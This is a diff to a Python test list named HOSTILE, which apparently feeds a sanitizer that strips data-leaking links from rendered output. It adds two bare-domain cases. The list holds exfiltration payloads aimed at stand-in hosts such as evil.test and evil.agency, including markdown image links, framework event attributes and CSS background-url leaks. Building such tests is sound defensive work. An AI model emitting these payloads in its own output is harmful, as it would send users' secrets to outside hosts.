@@ -109,7 +109,7 @@ HOSTILE = [
     "javascript:f('mailto:{}')", "[c](data:text/html,<img/src=https://ok.test/{}>)", "<div @click=\"f('{}')\">",
     "<div v-on:click=\"f('{}')\">", "<div ng-init=\"f('{}')\">", "<div x-data=\"f('{}')\">", "<div hx-vals='{}' hx-get='https://evil.test/'>",
     "![x](https://evil.test/ {})", "![x]( https://evil.test/\t{})", "[x](https://evil.test/\n{})", "[x](https://evil.test/ a {} b)", "![x](https://evil.test/\v{})",
-    "![x](https://evil.test/ " + "y " * 2000 + "{})", "evil.agency/{}", "evil.photos?q={}", "evil.chat:443/{}", "{}.evil.agency", "{}@evil.agency", "{}@203.0.113.9",
+    "![x](https://evil.test/ " + "y " * 2000 + "{})", "evil.agency/{}", "evil.photos?q={}", "evil.chat:443/{}", "{}.evil.agency", "{}@evil.agency", "{}@203.0.113.9", "{}evil.agency", "see x{}.agency",
     "<style>p[data-n^='A']{{background:url(https://evil.test/A)}}</style><p data-n='{}'>", "<link href='//evil.test' rel=stylesheet><p title='{}'>",
 ]  # fmt: skip
 
